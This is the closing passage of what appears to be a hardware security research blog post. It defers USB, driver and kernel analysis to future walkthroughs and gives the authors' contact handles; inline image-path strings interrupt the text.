We would also explore the USB side of this hardware and obviously look at thedriver/os/kernel as well, but I think I’ll save those walkthroughs for an easier device andanother time / blog post.

Thanks for reading,


if youhave any questions, please email us or find us ontwitter @m0nk_dot / @Atredis